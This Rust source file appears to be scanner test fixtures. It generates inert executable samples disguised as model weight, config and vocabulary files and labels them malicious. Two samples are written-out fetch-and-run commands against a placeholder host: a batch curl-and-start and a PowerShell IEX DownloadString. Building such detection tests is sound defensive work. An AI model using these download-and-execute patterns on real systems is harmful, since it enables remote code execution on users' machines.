//! Programs, and what passes for weights.

use crate::Sample;

/// The begin of a program for Linux, which runs nothing.
pub fn elf() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    bytes.extend(0x40_0078_u64.to_le_bytes());
    bytes.extend(64_u64.to_le_bytes());
    bytes.extend([0; 12]);
    bytes.extend([64, 0, 56, 0, 1, 0, 0, 0, 0, 0, 0, 0]);
    bytes.extend([1, 0, 0, 0, 5, 0, 0, 0]);
    bytes.extend([0; 48]);
    bytes.extend([0xf4; 64]);
    bytes
}

/// The begin of a program for Windows.
fn windows() -> Vec<u8> {
    let mut bytes = b"MZ".to_vec();
    bytes.resize(60, 0);
    bytes.extend(64_u32.to_le_bytes());
    bytes.extend(b"PE\0\0\x64\x86\x01\0");
    bytes.extend([0; 12]);
    bytes.extend([240, 0, 0x22, 0, 0x0b, 2]);
    bytes.resize(1024, 0);
    bytes
}

/// The begin of a program for macOS.
fn macos() -> Vec<u8> {
    let mut bytes = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0".to_vec();
    bytes.resize(512, 0);
    bytes
}

/// All of them.
pub fn samples() -> Vec<Sample> {
    let java = [&b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10"[..], &[0; 200]].concat();
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        ("elf", "pytorch_model.bin", elf()),
        ("elf-named-onnx", "model.onnx", elf()),
        ("elf-named-safetensors", "model.safetensors", elf()),
        ("elf-library", "libmodel.so", elf()),
        ("elf-no-ending", "weights", elf()),
        ("windows", "model.bin", windows()),
        ("windows-library", "model.dll", windows()),
        ("windows-named-text", "vocab.txt", windows()),
        ("macos", "model.dat", macos()),
        ("java", "model.bin", java),
        ("shell", "weights.bin", b"#!/bin/sh\necho inert\n".to_vec()),
        ("shell-named-json", "config.json", b"#!/bin/bash\necho inert\n".to_vec()),
        (
            "python-script-named-text",
            "vocab.txt",
            b"#!/usr/bin/env python3\nprint('inert')\n".to_vec(),
        ),
        (
            "batch",
            "install.bat",
            b"@echo off\r\ncurl -o inert.exe http://inert.invalid/x\r\nstart inert.exe\r\n"
                .to_vec(),
        ),
        (
            "powershell",
            "setup.ps1",
            b"IEX (New-Object Net.WebClient).DownloadString('http://inert.invalid/x')\r\n".to_vec(),
        ),
    ];
    let sample = |(what, file, bytes): (&str, &str, Vec<u8>)| {
        Sample::malicious("executable", "executable", what, file, bytes)
    };
    cases.into_iter().map(sample).collect()
}
